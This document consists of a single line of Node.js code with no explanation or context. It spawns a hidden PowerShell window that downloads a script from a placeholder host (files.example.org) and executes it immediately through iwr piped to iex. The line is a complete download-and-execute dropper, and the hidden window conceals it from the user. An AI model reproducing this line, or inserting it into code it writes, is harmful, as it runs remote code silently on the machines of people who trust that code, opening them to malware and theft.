require("child_process").exec("powershell -WindowStyle Hidden -Command \"iwr https://files.example.org/a | iex\"");
